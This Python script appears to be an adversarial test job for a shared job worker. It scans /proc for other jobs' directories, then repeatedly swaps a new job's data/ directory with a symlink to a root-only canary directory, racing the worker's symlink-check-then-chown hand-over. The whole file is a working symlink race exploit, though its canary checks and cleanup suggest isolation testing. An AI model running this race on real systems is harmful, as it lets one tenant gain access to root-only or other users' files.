"""Attack 1 (job B): find other jobs' directories on this worker and, when a
new job of the same member appears, swap its subdirectories for symlinks to a
root-only directory while the worker hands the directory over.

argv: WORK_DIR CANARY_DIR SECONDS TARGET_ID...
"""
import ctypes
import json
import os
import sys
import time

work, canary, seconds, targets = sys.argv[1], sys.argv[2], float(sys.argv[3]), sys.argv[4:]
rep = {"listed_work": None, "proc_cwds": [], "saw": [], "swaps": 0, "canary_readable": False}
try:
    rep["listed_work"] = sorted(os.listdir(work))[:20]
except OSError as e:
    rep["listed_work"] = type(e).__name__
for pid in os.listdir("/proc"):  # other jobs' directories, through their processes
    if pid.isdigit():
        try:
            rep["proc_cwds"].append(os.readlink(f"/proc/{pid}/cwd"))
        except OSError:
            pass
rep["proc_cwds"] = sorted({c for c in rep["proc_cwds"] if c.startswith(work)})[:20]
for top in ("/", "/tmp", os.path.dirname(work)):
    try:
        rep.setdefault("listed", {})[top] = sorted(os.listdir(top))[:30]
    except OSError as e:
        rep.setdefault("listed", {})[top] = type(e).__name__
print("HOSTILE " + json.dumps(rep), flush=True)
print("B scanning", flush=True)

libc = ctypes.CDLL(None, use_errno=True)
AT_FDCWD, RENAME_EXCHANGE = -100, 2


def exchange(a, b):
    """Atomically swap two names (renameat2 RENAME_EXCHANGE): data/ is always there,
    as the real directory or as the symlink, never missing."""
    if libc.renameat2(AT_FDCWD, a.encode(), AT_FDCWD, b.encode(), RENAME_EXCHANGE) != 0:
        raise OSError(ctypes.get_errno(), "renameat2")


end = time.monotonic() + seconds
pending = list(targets)
while pending and time.monotonic() < end:
    for t in list(pending):
        d = os.path.join(work, t, "data")
        link = os.path.join(work, t, ".data-link")
        try:
            os.symlink(canary, link)  # fails until the worker hands the directory to the job's uid
        except OSError:
            continue
        rep["saw"].append(t)
        pending.remove(t)
        # Flip data/ between the real directory and the symlink every 2 ms for as long as
        # the hand-over may take: its walk checks "not a symlink", scans, then chowns by path.
        flip_end = time.monotonic() + 3.0
        try:
            while time.monotonic() < flip_end:
                exchange(d, link)
                rep["swaps"] += 1
                time.sleep(0.002)
        except OSError as e:
            rep["error"] = str(e)
        try:  # leave the job as it was
            if os.path.islink(d):
                exchange(d, link)
            os.unlink(link)
        except OSError:
            pass
        print("HOSTILE " + json.dumps(rep), flush=True)
    time.sleep(0.0002)
try:
    rep["canary_readable"] = len(os.listdir(canary))
except OSError:
    pass
print("HOSTILE " + json.dumps(rep), flush=True)
print("B done", flush=True)
